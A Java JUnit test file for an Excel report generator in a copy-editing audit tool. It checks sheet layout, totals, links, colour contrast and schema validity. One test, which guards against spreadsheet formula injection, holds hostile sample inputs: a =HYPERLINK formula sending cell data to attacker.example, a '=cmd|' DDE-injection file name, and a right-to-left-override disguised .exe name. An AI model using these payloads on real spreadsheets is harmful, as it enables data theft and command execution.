package org.copydesk.report.excel;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.FillPatternType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFCellStyle;
import org.apache.poi.xssf.usermodel.XSSFColor;
import org.apache.poi.xssf.usermodel.XSSFFont;
import org.apache.poi.xssf.usermodel.XSSFGraphicFrame;
import org.apache.poi.xssf.usermodel.XSSFHyperlink;
import org.apache.poi.xssf.usermodel.XSSFRichTextString;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFTable;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.xmlbeans.XmlError;
import org.apache.xmlbeans.XmlException;
import org.apache.xmlbeans.XmlObject;
import org.apache.xmlbeans.XmlOptions;
import org.copydesk.ExternalTools;
import org.copydesk.audit.AuditRun;
import org.copydesk.audit.RunTotals;
import org.copydesk.audit.SampleRun;
import org.copydesk.check.RuleCatalogue;
import org.copydesk.finding.Level;
import org.copydesk.report.AlteredRun;
import org.copydesk.report.Report;
import org.copydesk.report.ReportFormat;
import org.copydesk.report.Tone;
import org.copydesk.score.PriceList;
import org.copydesk.text.UnreadableReason;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openxmlformats.schemas.drawingml.x2006.chart.ChartSpaceDocument;
import org.openxmlformats.schemas.drawingml.x2006.main.CTNonVisualDrawingProps;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.SstDocument;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.StyleSheetDocument;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.TableDocument;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.WorkbookDocument;
import org.openxmlformats.schemas.spreadsheetml.x2006.main.WorksheetDocument;

/** Reads the workbook back as an editor's spreadsheet would. */
class ExcelReportTest {

  private static final List<String> SHEETS =
      List.of(
          "Overview",
          "Documents",
          "Findings",
          "Fixed since last run",
          "Statistics",
          "Names",
          "Measures",
          "Not audited",
          "Suppressed",
          "Not counted",
          "Quality gate",
          "Trend",
          "How to read",
          "_copydesk");

  private static final List<String> DATA_SHEETS = SHEETS.subList(1, 12);

  @TempDir static Path folder;

  private static final AuditRun RUN = SampleRun.typical();
  private static XSSFWorkbook book;
  private static List<Path> files;

  @BeforeAll
  static void write() throws IOException {
    files = report().write(RUN, folder);
    book = Workbooks.open(files.get(0));
  }

  private static Report report() {
    return new ExcelReport(PriceList.standard());
  }

  @Test
  void writesTheRunAndTheLatestAndLeavesNothingElseBehind() throws IOException {
    assertThat(report().format()).isEqualTo(ReportFormat.XLSX);
    assertThat(files)
        .containsExactly(
            folder.resolve("latest.xlsx"), folder.resolve("copydesk-20260318-020000-a1b2.xlsx"));
    assertThat(files.get(0)).hasSameBinaryContentAs(files.get(1));
    try (Stream<Path> there = Files.list(folder)) {
      assertThat(there).containsExactlyInAnyOrderElementsOf(files);
    }
  }

  @Test
  void answersInItsFirstCell() {
    assertThat(book.getSheetAt(0).getRow(0).getCell(0).getStringCellValue())
        .isEqualTo(
            "1 of 6 submissions should not be published as it is; 2 more could not be audited");
    assertThat(text("Overview")).contains("18 March 2026, 02:00 UTC");
  }

  @Test
  void hasItsSheetsInOrder() {
    List<String> names = new ArrayList<>();
    book.forEach(sheet -> names.add(sheet.getSheetName()));
    assertThat(names).isEqualTo(SHEETS);
    assertThat(book.getActiveSheetIndex()).isZero();
  }

  @Test
  void totalsOfTheOverviewAreTheRowsOfTheSheets() {
    RunTotals totals = RUN.totals();
    List<String> verdicts = Workbooks.column(sheet("Documents"), "Verdict");
    assertThat(overview("Files found")).isEqualTo(verdicts.size()).isEqualTo(totals.found());
    assertThat(overview("■ FAIL"))
        .isEqualTo(Collections.frequency(verdicts, "■ FAIL"))
        .isEqualTo(totals.fail());
    assertThat(overview("▲ REVIEW"))
        .isEqualTo(Collections.frequency(verdicts, "▲ REVIEW"))
        .isEqualTo(totals.review());
    assertThat(overview("● PASS"))
        .isEqualTo(Collections.frequency(verdicts, "● PASS"))
        .isEqualTo(totals.pass());
    assertThat(overview("□ NOT AUDITED"))
        .isEqualTo(Collections.frequency(verdicts, "□ NOT AUDITED"))
        .isEqualTo(Workbooks.column(sheet("Not audited"), "Document").size());
    assertThat(overview("Findings"))
        .isEqualTo(Workbooks.column(sheet("Findings"), "Level").size())
        .isEqualTo(14);
    assertThat(overview("Statistics in the register"))
        .isEqualTo(Workbooks.column(sheet("Statistics"), "Figure").size());
    assertThat(overview("Average score")).isEqualTo(totals.averageScore().getAsDouble());
    assertThat(text("Overview"))
        .contains("9 files found = 1 FAIL + 1 REVIEW + 4 PASS + 3 NOT AUDITED.");
  }

  @Test
  void kindsOfTheOverviewAreTheFindings() {
    XSSFSheet sheet = sheet("Overview");
    int header = rowOf(sheet, "Kind");
    int all = rowOf(sheet, "All");
    double[] sums = new double[4];
    for (int row = header + 1; row < all; row++) {
      for (int i = 0; i < 4; i++) {
        sums[i] += sheet.getRow(row).getCell(3 + i).getNumericCellValue();
      }
    }
    for (int i = 0; i < 4; i++) {
      assertThat(sheet.getRow(all).getCell(3 + i).getNumericCellValue()).isEqualTo(sums[i]);
    }
    assertThat(sums)
        .containsExactly(
            RUN.totals().count(Level.ERROR),
            RUN.totals().count(Level.WARNING),
            RUN.totals().count(Level.NOTE),
            14);
  }

  @Test
  void comesWorstFirst() {
    List<String> scores = Workbooks.column(sheet("Documents"), "Score");
    List<Double> audited = scores.stream().filter(s -> !s.isEmpty()).map(Double::valueOf).toList();
    assertThat(audited).isSorted().hasSize(6);
    assertThat(scores.subList(6, 9)).containsOnly("");
    assertThat(Workbooks.column(sheet("Statistics"), "Source?"))
        .startsWith("■ No source")
        .endsWith("● Sourced")
        .isSortedAccordingTo((a, b) -> "■▲●".indexOf(a.charAt(0)) - "■▲●".indexOf(b.charAt(0)));
  }

  @Test
  void showsHowEachScoreComesAbout() {
    List<String> sums = Workbooks.column(sheet("Documents"), "How the score comes about");
    List<String> scores = Workbooks.column(sheet("Documents"), "Score");
    assertThat(sums.get(0)).startsWith("100 − ").contains("Misspelled name");
    assertThat(sums.subList(4, 6)).containsOnly("100: nothing took points.");
    for (int i = 0; i < 4; i++) {
      assertThat(addUp(sums.get(i))).isEqualTo(Double.parseDouble(scores.get(i)));
    }
  }

  /** Adds the numbers of "100 − 24.0 Misspelled name = 76.0" that stand before the equals sign. */
  private static double addUp(String sum) {
    double left = 0;
    for (String part : sum.substring(0, sum.indexOf(" = ")).split(" (?=[−+] \\d)")) {
      String[] words = part.split(" ");
      left +=
          words.length == 1
              ? Double.parseDouble(words[0])
              : Double.parseDouble(words[1]) * (words[0].equals("+") ? 1 : -1);
    }
    assertThat(sum).endsWith(String.format(Locale.ENGLISH, " = %.1f", left));
    return Math.round(left * 10) / 10.0;
  }

  @Test
  void linksFromTheWorstDocumentsToTheirRowsAndOnToTheirFindings() {
    List<String> names = Workbooks.column(sheet("Documents"), "Document");
    int inDocuments = 0;
    for (XSSFHyperlink link : sheet("Overview").getHyperlinkList()) {
      if (link.getLocation().startsWith("'Documents'!A") && !link.getLocation().endsWith("A1")) {
        int row = Integer.parseInt(link.getLocation().substring("'Documents'!A".length()));
        XSSFCell from = sheet("Overview").getRow(link.getFirstRow()).getCell(link.getFirstColumn());
        assertThat(names.get(row - 2)).isEqualTo(from.getStringCellValue());
        inDocuments++;
      }
    }
    assertThat(inDocuments).isEqualTo(2);
    List<String> findingDocuments = Workbooks.column(sheet("Findings"), "Document");
    assertThat(sheet("Documents").getHyperlinkList()).hasSize(5);
    for (XSSFHyperlink link : sheet("Documents").getHyperlinkList()) {
      int row = Integer.parseInt(link.getLocation().substring("'Findings'!A".length()));
      String name = sheet("Documents").getRow(link.getFirstRow()).getCell(2).getStringCellValue();
      assertThat(findingDocuments.indexOf(name)).isEqualTo(row - 2);
    }
  }

  @Test
  void saysOfEachFindingWhatWhereWhyAndWhatToDo() {
    XSSFSheet findings = sheet("Findings");
    for (String title :
        List.of("Kind", "Document", "Where", "In the text", "What to do", "Why flagged")) {
      assertThat(Workbooks.column(findings, title)).doesNotContain("");
    }
    assertThat(Workbooks.column(findings, "Kind"))
        .contains("Misspelled name", "Grammar or punctuation")
        .noneMatch(kind -> kind.contains("/"));
    assertThat(Workbooks.column(findings, "What to do"))
        .contains("Reykjavik", "received / relieved", "(leave it out)")
        .contains("Name the study or the expert.");
    assertThat(Workbooks.column(findings, "Why flagged").get(0))
        .startsWith("“Rejkjavik” is no place we know.")
        .contains("\n– In an atlas");
    assertThat(Workbooks.column(findings, "Rule")).contains("names/misspelled-name");
    for (int column = 0; column < 15; column++) {
      assertThat(findings.isColumnHidden(column)).as("%d", column).isEqualTo(column >= 12);
    }
    assertThat(Workbooks.column(findings, "Key"))
        .allMatch(key -> key.matches("v1:[0-9a-f]{16} v1:[0-9a-f]{16} v1:[0-9a-f]{16}"));
  }

  @Test
  void marksTheWordsInBracketsAndInTheirOwnLook() {
    XSSFCell cell = sheet("Findings").getRow(1).getCell(7);
    XSSFRichTextString text = cell.getRichStringCellValue();
    assertThat(text.getString()).isEqualTo("New bridge halves the way to [Rejkjavik]");
    XSSFFont font = text.getFontAtIndex(text.getString().indexOf('['));
    assertThat(font.getBold()).isTrue();
    assertThat(font.getUnderline()).isEqualTo(XSSFFont.U_SINGLE);
    assertThat(text.numFormattingRuns()).isEqualTo(2);
    assertThat(text.getFontOfFormattingRun(0)).isNull();
    assertThat(Workbooks.column(sheet("Findings"), "In the text"))
        .allMatch(t -> t.contains("[") && t.contains("]"));
    assertThat(Workbooks.column(sheet("Statistics"), "Claim"))
        .anyMatch(t -> t.contains("25% of the quay is gone and [5%]"));
  }

  /** After a change that is meant: {@code -Dcopydesk.golden=write}, and review the difference. */
  @Test
  void readsLikeTheGoldenText() throws IOException {
    Path golden = Path.of("src/test/resources/report/excel/typical.txt");
    String dump = Workbooks.dump(book);
    if (System.getProperty("copydesk.golden", "").equals("write")) {
      Files.createDirectories(golden.getParent());
      Files.writeString(golden, dump);
    }
    assertThat(dump).isEqualTo(Files.readString(golden));
  }

  @Test
  void holdsNoFormulas() {
    Workbooks.eachCell(book, cell -> assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA));
  }

  @Test
  void keepsWhatASenderWroteAsText() throws IOException {
    assertThat(Workbooks.column(sheet("Documents"), "Headline"))
        .contains("=HYPERLINK(\"https://attacker.example/?q=\"&A1,\"Click here\")");
    assertThat(Workbooks.column(sheet("Documents"), "Document"))
        .contains("monday/=cmd|' _x0041_.txt", "tuesday/invoice‹U+202E›xcod.exe");
    assertThat(Workbooks.column(sheet("Not audited"), "Ends in").get(0)).isEqualTo(".exe");
    assertThat(text("Findings")).contains("_x0041_ and␀the␇bell").contains("_x0042_");
    for (String sheet : DATA_SHEETS) {
      for (int row = 1; row <= sheet(sheet).getLastRowNum(); row++) {
        sheet(sheet)
            .getRow(row)
            .forEach(
                cell ->
                    assertThat(
                            cell.getCellType() != CellType.STRING
                                || cell.getCellStyle().getQuotePrefixed()
                                || "■▲●□○".contains(cell.getStringCellValue().substring(0, 1)))
                        .as("an edit of %s %s must not make it a formula", sheet, cell)
                        .isTrue());
      }
    }
    Workbooks.values(book)
        .forEach(
            (where, value) ->
                assertThat(value)
                    .as(where)
                    .doesNotContainPattern("[\\p{Cc}&&[^\\n]]|[\\u202A-\\u202E\\uFFFE\\uFFFF]")
                    .hasSizeLessThanOrEqualTo(CellText.LONGEST));
  }

  @Test
  void everyTextStandsOutFromItsGround() {
    for (Tone tone : Tone.values()) {
      assertThat(contrast(tone.text(), tone.fill())).as("%s", tone).isGreaterThanOrEqualTo(4.5);
    }
    for (Tone ground : List.of(Tone.RED, Tone.AMBER, Tone.BLUE, Tone.ANSWER, Tone.INK)) {
      assertThat(contrast(Tone.QUIET.text(), ground.fill()))
          .as("an answered row on %s", ground)
          .isGreaterThanOrEqualTo(4.5);
    }
    Workbooks.eachCell(
        book,
        cell -> {
          XSSFCellStyle style = cell.getCellStyle();
          String ground =
              style.getFillPattern() == FillPatternType.NO_FILL
                  ? "FFFFFF"
                  : hex(style.getFillForegroundXSSFColor());
          assertThat(contrast(hex(style.getFont().getXSSFColor()), ground))
              .as("%s %s", cell.getSheet().getSheetName(), cell.getAddress())
              .isGreaterThanOrEqualTo(4.5);
        });
  }

  private static String hex(XSSFColor colour) {
    return colour.getARGBHex().substring(2);
  }

  /** Contrast of two colours as the accessibility guidelines of the W3C work it out. */
  private static double contrast(String one, String other) {
    double a = luminance(one) + 0.05;
    double b = luminance(other) + 0.05;
    return Math.max(a, b) / Math.min(a, b);
  }

  private static double luminance(String hex) {
    double[] share = {0.2126, 0.7152, 0.0722};
    double sum = 0;
    for (int i = 0; i < 3; i++) {
      double c = Integer.parseInt(hex.substring(2 * i, 2 * i + 2), 16) / 255.0;
      sum += share[i] * (c <= 0.04045 ? c / 12.92 : Math.pow((c + 0.055) / 1.055, 2.4));
    }
    return sum;
  }

  @Test
  void frozenHeadersTablesAndFiltersAreThereAndNothingIsMerged() {
    for (String name : DATA_SHEETS) {
      XSSFSheet sheet = sheet(name);
      assertThat(sheet.getMergedRegions()).as(name).isEmpty();
      assertThat(sheet.getPaneInformation().isFreezePane()).as(name).isTrue();
      assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
      assertThat(sheet.getTables()).as(name).hasSize(1);
      XSSFTable table = sheet.getTables().get(0);
      assertThat(table.getName()).isEqualTo("tbl" + camel(name));
      assertThat(table.getHeaderRowCount()).isEqualTo(1);
      assertThat(table.getCTTable().getAutoFilter().getRef())
          .isEqualTo(table.getArea().formatAsString());
      // Below the conditions stands what became of the findings, below the runs what to mind.
      int below = name.equals("Quality gate") || name.equals("Trend") ? 1 : 0;
      assertThat(table.getEndRowIndex()).isEqualTo(sheet.getLastRowNum() - below);
      for (int i = 0; i < table.getColumnCount(); i++) {
        assertThat(table.getColumns().get(i).getName())
            .isEqualTo(sheet.getRow(0).getCell(i).getStringCellValue());
      }
      assertThat(sheet.getFitToPage()).isTrue();
      assertThat(sheet.getRepeatingRows().formatAsString()).isEqualTo("1:1");
      assertThat(sheet.getFooter().getRight()).isEqualTo("Page &P of &N");
    }
  }

  private static String camel(String name) {
    int blank = name.indexOf(' ');
    return blank < 0
        ? name
        : name.substring(0, blank)
            + name.substring(blank + 1, blank + 2).toUpperCase(Locale.ROOT)
            + camel(name.substring(blank + 2));
  }

  @Test
  void tellsTheChartInWordsToo() {
    XSSFGraphicFrame chart =
        (XSSFGraphicFrame) sheet("Overview").getDrawingPatriarch().getShapes().get(0);
    CTNonVisualDrawingProps frame =
        chart.getCTGraphicalObjectFrame().getNvGraphicFramePr().getCNvPr();
    assertThat(frame.getDescr()).contains("Misspelled word: 3 errors, 1 warning, 1 note.");
  }

  @Test
  void explainsVerdictsScoreAndEveryKindInWords() {
    String legend = text("How to read");
    assertThat(legend)
        .contains("the score is below 60")
        .contains(
            "A story of 400 words has two errors “Misspelled word” (price 7) and one warning"
                + " “Statistic with a vague source” (price 4).")
        .contains("The errors are charged 7 × log2(1 + 2 × 1.5) = 14.0,")
        .contains("100 × 0.99 to the power of ");
    RUN.rules()
        .cards()
        .forEach(card -> assertThat(legend).contains(card.summary()).contains(card.fix()));
    assertThat(sheet("How to read").isColumnHidden(6)).isTrue();
  }

  @Test
  void givesEachMeasureAColumnAndEachAuditedTextARow() {
    XSSFSheet sheet = sheet("Measures");
    assertThat(Workbooks.column(sheet, "Document"))
        .hasSize(RUN.totals().audited())
        .startsWith("monday/bridge.txt");
    assertThat(Workbooks.column(sheet, "Figures").get(0)).startsWith("3");
    XSSFCell share = sheet.getRow(1).getCell(4);
    assertThat(share.getNumericCellValue()).isEqualTo(0.333);
    assertThat(share.getCellStyle().getDataFormatString()).isEqualTo("0.0%");
    List<String> figures = Workbooks.column(sheet, "Figures");
    List<String> sourced = Workbooks.column(sheet, "Figures with a source");
    for (int i = 0; i < figures.size(); i++) {
      assertThat(sourced.get(i).isEmpty())
          .as("a share of no figures")
          .isEqualTo(Double.parseDouble(figures.get(i)) == 0);
    }
    RUN.measures()
        .cards()
        .forEach(
            card ->
                assertThat(text("How to read"))
                    .contains(card.label(), card.meaning(), card.source()));
  }

  @Test
  void twoWritesOfOneRunHaveEqualParts(@TempDir Path other) throws IOException {
    report().write(SampleRun.typical(), other);
    Map<String, byte[]> again = Workbooks.parts(other.resolve("latest.xlsx"));
    Map<String, byte[]> first = Workbooks.parts(files.get(0));
    assertThat(again.keySet()).isEqualTo(first.keySet()).hasSizeGreaterThan(10);
    first.forEach((part, bytes) -> assertThat(again.get(part)).as(part).isEqualTo(bytes));
    assertThat(new String(first.get("docProps/core.xml"), java.nio.charset.StandardCharsets.UTF_8))
        .contains("2026-03-18T02:00:00Z</dcterms:created>")
        .contains("2026-03-18T02:00:00Z</dcterms:modified>")
        .contains("Copydesk audit 20260318-020000-a1b2");
  }

  @Test
  void everyPartIsValidByTheSchemaOfTheFormat(@TempDir Path other) throws Exception {
    // Fourteen sheets, eleven tables, two charts, and three parts of the workbook itself.
    assertThat(checked(files.get(0))).hasSize(30);
    assertThat(
            checked(new ExcelReport(PriceList.standard()).write(SampleRun.partial(), other).get(0)))
        .contains("xl/tables/table8.xml", "xl/tables/table9.xml");
  }

  private static List<String> checked(Path file) throws Exception {
    Map<String, byte[]> parts = Workbooks.parts(file);
    Map<String, XmlReader> schemas =
        Map.of(
            "xl/worksheets/sheet", WorksheetDocument.Factory::parse,
            "xl/tables/table", TableDocument.Factory::parse,
            "xl/charts/chart", ChartSpaceDocument.Factory::parse,
            "xl/styles.xml", StyleSheetDocument.Factory::parse,
            "xl/workbook.xml", WorkbookDocument.Factory::parse,
            "xl/sharedStrings.xml", SstDocument.Factory::parse);
    List<String> checked = new ArrayList<>();
    for (Map.Entry<String, byte[]> part : parts.entrySet()) {
      for (Map.Entry<String, XmlReader> schema : schemas.entrySet()) {
        if (part.getKey().startsWith(schema.getKey())) {
          XmlObject xml = schema.getValue().read(new ByteArrayInputStream(part.getValue()));
          List<XmlError> errors = new ArrayList<>();
          xml.validate(new XmlOptions().setErrorListener(errors));
          // Every program writes xml:space, and the schema forgot to allow it.
          errors.removeIf(e -> e.getMessage().contains("space@http://www.w3.org/XML/1998"));
          assertThat(errors).as(part.getKey()).isEmpty();
          checked.add(part.getKey());
        }
      }
    }
    return checked;
  }

  private interface XmlReader {
    XmlObject read(InputStream in) throws IOException, XmlException;
  }

  @Test
  void saysWhatItHadToLeaveOut(@TempDir Path other) throws IOException {
    new ExcelReport(PriceList.standard(), new Limits(4, 5, 6, 10, 1)).write(RUN, other);
    try (XSSFWorkbook small = Workbooks.open(other.resolve("latest.xlsx"))) {
      Map<String, String> values = Workbooks.values(small);
      assertThat(values)
          .containsEntry(
              "Findings!A7",
              "9 further findings are not on this sheet; findings.jsonl (--format jsonl) holds all"
                  + " of them.")
          .containsEntry(
              "Documents!A6",
              "5 further documents are not on this sheet; documents.jsonl (--format jsonl) holds"
                  + " all of them.")
          .containsEntry(
              "Measures!A6",
              "2 further documents are not on this sheet; documents.jsonl (--format jsonl) holds"
                  + " all of them.");
      assertThat(values.values())
          .anyMatch(v -> v.startsWith("The sheet Findings ends early: 9 further findings"))
          .anyMatch(v -> v.startsWith("The sheet Statistics ends early: 5 further figures"))
          .contains("The sheet Suppressed ends early: 2 further decisions had no room.");
      assertThat(small.getSheet("Findings").getLastRowNum()).isEqualTo(6);
      assertThat(small.getTable("tblFindings").getEndRowIndex()).isEqualTo(5);
    }
  }

  @Test
  void isWholeForARunThatFoundNothing(@TempDir Path other) throws IOException {
    AuditRun nothing = SampleRun.builder().rules(new RuleCatalogue(List.of())).build();
    report().write(nothing, other);
    try (XSSFWorkbook empty = Workbooks.open(other.resolve("latest.xlsx"))) {
      assertThat(Workbooks.values(empty))
          .containsEntry("Overview!A1", "No files were found to audit")
          .containsEntry("Findings!A2", "Nothing was found in the texts that were audited.")
          .containsEntry("Measures!A2", "No text was audited.")
          .containsEntry("Not audited!A2", "All files were read.");
    }
  }

  @Test
  void neverCallsAFileCleanThatNobodyRead(@TempDir Path other) throws IOException {
    AuditRun unread =
        SampleRun.builder()
            .rules(new RuleCatalogue(List.of()))
            .notAudited("a.pdf", UnreadableReason.NO_TEXT, "", 10, "application/pdf")
            .notAudited("b.pdf", UnreadableReason.ENCRYPTED, "", 10, "application/pdf")
            .build();
    report().write(unread, other);
    try (XSSFWorkbook read = Workbooks.open(other.resolve("latest.xlsx"))) {
      assertThat(Workbooks.values(read))
          .containsEntry("Overview!A1", "None of the 2 files could be audited")
          .containsEntry("Not audited!A2", "a.pdf")
          .containsEntry("Not audited!F2", "PDF");
    }
  }

  @Test
  void leavesTheOldWorkbookWhenWritingFails(@TempDir Path other) throws IOException {
    report().write(RUN, other);
    byte[] before = Files.readAllBytes(other.resolve("latest.xlsx"));
    AuditRun broken =
        AlteredRun.of(
            RUN,
            Map.of(
                "eachFigure",
                a -> {
                  throw new UncheckedIOException(new IOException("No space left on device"));
                }));
    assertThatThrownBy(() -> report().write(broken, other))
        .isInstanceOf(IOException.class)
        .hasMessageStartingWith("there is no room in " + other);
    assertThat(Files.readAllBytes(other.resolve("latest.xlsx"))).isEqualTo(before);
    try (Stream<Path> there = Files.list(other)) {
      assertThat(there).hasSize(2);
    }
  }

  @Test
  void libreOfficeReadsTheSameValues(@TempDir Path other) throws Exception {
    Path converted = ExternalTools.convert(files.get(0), "xlsx", other);
    try (XSSFWorkbook theirs = Workbooks.open(converted)) {
      assertThat(Workbooks.values(theirs)).isEqualTo(Workbooks.values(book));
      assertThat(theirs.getTable("tblFindings").getEndRowIndex()).isEqualTo(14);
    }
  }

  private static XSSFSheet sheet(String name) {
    return book.getSheet(name);
  }

  private static String text(String sheet) {
    StringBuilder text = new StringBuilder();
    Workbooks.values(book)
        .forEach((where, value) -> text.append(where.startsWith(sheet + "!") ? value + "\n" : ""));
    return text.toString();
  }

  private static int rowOf(XSSFSheet sheet, String name) {
    int found = -1;
    for (int row = 0; row <= sheet.getLastRowNum(); row++) {
      XSSFCell cell = sheet.getRow(row) == null ? null : sheet.getRow(row).getCell(0);
      if (cell != null && cell.toString().equals(name)) {
        found = row;
      }
    }
    return found;
  }

  /** A number of the Overview's plain table. */
  private static double overview(String name) {
    return sheet("Overview")
        .getRow(rowOf(sheet("Overview"), name))
        .getCell(3)
        .getNumericCellValue();
  }
}
